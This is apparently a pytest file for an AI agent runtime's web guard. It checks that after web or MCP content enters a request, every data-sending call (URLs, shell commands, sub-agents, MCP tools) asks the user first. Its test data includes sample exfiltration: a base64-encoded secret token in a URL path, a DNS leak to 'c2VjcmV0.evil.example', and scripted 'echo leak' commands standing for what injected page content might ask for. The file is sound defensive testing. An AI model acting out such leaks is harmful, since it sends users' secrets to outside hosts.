"""Once content from the web or an MCP server entered a user request, every call that can
send data out asks, whatever runs it: a later /deepthink stage, a sub-agent, an MCP tool;
a URL asks unless the user wrote it or it was fetched already in the request. Real runtimes,
a local HTTP server, a real MCP server process and the scripted model."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from mcp_helpers import fake_entry, outside_config, write_config
from scripted import ScriptedProvider, say
from scripted import call as scripted_call
from web_fixtures import FixtureServer, fixture_server

from tether.cli import run_request
from tether.core.messages import ToolCall, ToolResult
from tether.core.ui_protocol import Decision, SilentUI
from tether.engine.loop import Conversation
from tether.runtime import RunOptions, Runtime, build_runtime
from tether.safety.web_guard import written_in
from tether.store.config import load_settings

ENTERED = "entered this request"


class RecordingUI(SilentUI):
    """A person who says no to every question, and remembers what was asked."""

    can_ask = True

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[tuple[str, str]] = []

    async def approve(self, call: ToolCall, reason: str) -> Decision:
        self.asked.append((call.name, reason))
        return Decision(False, "")


@pytest.fixture
def server() -> Iterator[FixtureServer]:
    with fixture_server() as state:
        yield state


@pytest.fixture
async def runtimes() -> AsyncIterator[list[Runtime]]:
    made: list[Runtime] = []
    yield made
    for runtime in made:
        await runtime.aclose()


def make_runtime(runtimes: list[Runtime], tmp_path: Path, server: FixtureServer, *,
                 allow: tuple[str, ...] = (), ui: SilentUI | None = None,
                 mcp: dict | None = None) -> Runtime:
    root = tmp_path / "project"
    root.mkdir(exist_ok=True)
    home = tmp_path / "home"
    given = {"provider": "openai", "model": "fake", "openai_base_url": "http://127.0.0.1:9/v1",
             "profile": "full", "sandbox": "off", "mcp_startup_wait": 60, **server.settings()}
    loaded, warnings = load_settings(given, {}, home)
    assert warnings == []
    configs = [write_config(outside_config(tmp_path), mcp)] if mcp else []
    options = RunOptions(root=root, home=home, allow=[server.allow_rule, *allow], mcp_config=configs)
    runtime = build_runtime(loaded, options, ui or SilentUI(), {"PATH": "/usr/bin:/bin"})
    runtimes.append(runtime)
    return runtime


async def dispatch(runtime: Runtime, name: str, **arguments: object) -> ToolResult:
    result, _ = await runtime.loop.dispatcher.dispatch(ToolCall("c1", name, dict(arguments)))
    return result


def paths_asked(server: FixtureServer) -> list[str]:
    return [urlsplit(p).path for p in server.seen]


# ---------------------------------------------------------------- which URLs ask


async def test_after_web_content_a_url_whose_path_carries_data_asks(
    runtimes: list[Runtime], tmp_path: Path, server: FixtureServer
) -> None:
    runtime = make_runtime(runtimes, tmp_path, server)  # the rule allows the whole site
    runtime.new_request(f"summarize {server.base}/pages/asyncio")
    page = await dispatch(runtime, "get_url", url=f"{server.base}/pages/asyncio")
    assert not page.is_error
    leak = await dispatch(runtime, "get_url", url=f"{server.base}/c/c2VjcmV0LXRva2Vu")
    assert leak.is_error and ENTERED in leak.content and "path" in leak.content
    assert "/c/c2VjcmV0LXRva2Vu" not in paths_asked(server)


async def test_after_web_content_a_new_host_name_asks_before_its_dns_lookup(
    runtimes: list[Runtime], tmp_path: Path, server: FixtureServer
) -> None:
    runtime = make_runtime(runtimes, tmp_path, server, allow=("get_url",))  # every URL allowed
    runtime.new_request(f"summarize {server.base}/pages/asyncio")
    await dispatch(runtime, "get_url", url=f"{server.base}/pages/asyncio")
    tool = runtime.table.get("get_url")
    assert tool is not None
    verdict = runtime.policy.check(ToolCall("c", "get_url", {"url": "https://c2VjcmV0.evil.example/"}), tool)
    assert verdict.action == "ask" and ENTERED in verdict.reason and "DNS" in verdict.reason


@pytest.mark.parametrize("url,request_text,written", [
    ("https://docs.python.org/3/", "read https://docs.python.org/3/ please", True),
    ("https://docs.python.org/3/", "see https://docs.python.org/3/.", True),  # full stop after it
    ("https://docs.python.org/3/", "(https://docs.python.org/3/)", True),
    ("https://docs.python.org/3/", "read docs.python.org/3/ please", True),  # written bare
    ("https://docs.python.org/3/", "read http://docs.python.org/3/", True),  # the other scheme
    ("https://docs.python.org/3", "read https://docs.python.org/3/library", False),  # a part
    ("https://docs.python.org/3/library", "read https://docs.python.org/3/", False),  # longer
    ("https://x.docs.python.org/3/", "read https://docs.python.org/3/", False),
    ("https://evil.example/?q=docs.python.org", "read docs.python.org", False),
    ("https://docs.python.org/3/", "", False),
    ("ftp://docs.python.org/3/", "read ftp://docs.python.org/3/", False),
])
def test_a_url_counts_as_the_users_only_when_it_stands_whole_in_the_request(
    url: str, request_text: str, written: bool
) -> None:
    assert written_in(url, request_text) is written


async def test_a_request_sent_from_an_mcp_prompt_starts_marked_and_its_urls_are_not_the_users(
    runtimes: list[Runtime], tmp_path: Path, server: FixtureServer
) -> None:
    runtime = make_runtime(runtimes, tmp_path, server, allow=("run_cmd(echo *)",))
    runtime.new_request(f"review {server.base}/pages/sorting", source="MCP server docs")
    command = await dispatch(runtime, "run_cmd", command="echo hi")
    fetch = await dispatch(runtime, "get_url", url=f"{server.base}/pages/sorting")
    assert command.is_error and ENTERED in command.content and "MCP server docs" in command.content
    assert fetch.is_error and ENTERED in fetch.content and server.seen == []


# ---------------------------------------------------------------- every stage of the request


async def test_a_deepthink_run_keeps_web_content_from_its_build_stage_in_the_later_stages(
    runtimes: list[Runtime], tmp_path: Path, server: FixtureServer
) -> None:
    runtime = make_runtime(runtimes, tmp_path, server, allow=("write_file", "run_cmd(echo *)"))
    provider = ScriptedProvider([
        say("Plan: read the page, write notes.txt."),  # plan
        say("The plan holds."),  # check
        scripted_call(("get_url", {"url": f"{server.base}/pages/asyncio"})),  # implement
        scripted_call(("write_file", {"filepath": "notes.txt", "content": "cancel()\n"})),
        say("Wrote notes.txt."),
        scripted_call(("run_cmd", {"command": "echo leak"})),  # review: what a page may ask for
        say("Reviewed."),
        scripted_call(("run_cmd", {"command": "echo leak again"})),  # verify
        say("Verified."),
    ])
    runtime.loop.provider = provider
    result = await run_request(runtime, Conversation(), "note how to cancel an asyncio task", True)
    commands = [e for e in result.evidence if e.call.name == "run_cmd"]
    assert len(commands) == 2, "the review and verify stages both ran their command"
    for command in commands:
        assert command.error and ENTERED in command.result and "/pages/asyncio" in command.result
    assert (tmp_path / "project" / "notes.txt").read_text() == "cancel()\n"


async def test_a_sub_agent_started_after_web_content_asks_through_the_parent_ui(
    runtimes: list[Runtime], tmp_path: Path, server: FixtureServer
) -> None:
    ui = RecordingUI()
    runtime = make_runtime(runtimes, tmp_path, server, ui=ui, allow=("spawn_agent", "run_cmd(echo *)"))
    runtime.loop.provider = ScriptedProvider([
        scripted_call(("get_url", {"url": f"{server.base}/pages/asyncio"})),
        scripted_call(("spawn_agent", {"task": "check the build"})),
        scripted_call(("run_cmd", {"command": "echo leak"})),  # the sub-agent's call
        say("The command was refused."),  # its report
        say("Done."),
    ])
    runtime.new_request("read the asyncio page and check the build")
    await runtime.loop.run_turn(Conversation(), "read the asyncio page and check the build")
    assert [name for name, _ in ui.asked] == ["run_cmd"]
    reason = ui.asked[0][1]
    assert reason.startswith("sub-agent general [") and ENTERED in reason


async def test_web_content_a_sub_agent_fetched_marks_the_parents_request(
    runtimes: list[Runtime], tmp_path: Path, server: FixtureServer
) -> None:
    runtime = make_runtime(runtimes, tmp_path, server, allow=("spawn_agent", "run_cmd(echo *)"))
    runtime.loop.provider = ScriptedProvider([
        scripted_call(("spawn_agent", {"task": "read the asyncio page"})),
        scripted_call(("get_url", {"url": f"{server.base}/pages/asyncio"})),  # the sub-agent
        say("It says to call task.cancel()."),  # its report
        scripted_call(("run_cmd", {"command": "echo after the report"})),  # the parent again
        say("Done."),
    ])
    runtime.new_request("find out how to cancel a task")
    result = await runtime.loop.run_turn(Conversation(), "find out how to cancel a task")
    spawned, command = result.evidence
    assert not spawned.error and "task.cancel()" in spawned.result
    assert command.error and ENTERED in command.result and "/pages/asyncio" in command.result


# ---------------------------------------------------------------- MCP


async def test_an_mcp_tool_call_after_web_content_asks_even_when_auto_approved(
    runtimes: list[Runtime], tmp_path: Path, server: FixtureServer
) -> None:
    runtime = make_runtime(runtimes, tmp_path, server, mcp={"fake": fake_entry(autoApprove=["echo"])})
    assert runtime.mcp is not None
    runtime.mcp.manager.start()
    await runtime.mcp.manager.wait_ready(60)
    runtime.new_request("echo something")
    before = await dispatch(runtime, "mcp__fake__echo", text="before")
    assert not before.is_error and before.content == "before"
    runtime.new_request(f"read {server.base}/pages/asyncio")
    await dispatch(runtime, "get_url", url=f"{server.base}/pages/asyncio")
    after = await dispatch(runtime, "mcp__fake__echo", text="c2VjcmV0")
    assert after.is_error and ENTERED in after.content and "MCP server fake" in after.content
    resource = await dispatch(runtime, "read_mcp_resource", server="fake", uri="note://c2VjcmV0")
    assert resource.is_error and ENTERED in resource.content


async def test_a_runtime_rebuilt_in_the_middle_of_a_request_keeps_its_mark(
    runtimes: list[Runtime], tmp_path: Path, server: FixtureServer
) -> None:
    runtime = make_runtime(runtimes, tmp_path, server, allow=("run_cmd(echo *)",))
    runtime.new_request(f"read {server.base}/pages/asyncio")
    await dispatch(runtime, "get_url", url=f"{server.base}/pages/asyncio")
    rebuilt = runtime.rebuilt()
    runtimes.append(rebuilt)
    command = await dispatch(rebuilt, "run_cmd", command="echo leak")
    assert command.is_error and ENTERED in command.content
    again = await dispatch(rebuilt, "get_url", url=f"{server.base}/pages/asyncio")
    assert not again.is_error  # what was fetched is still known
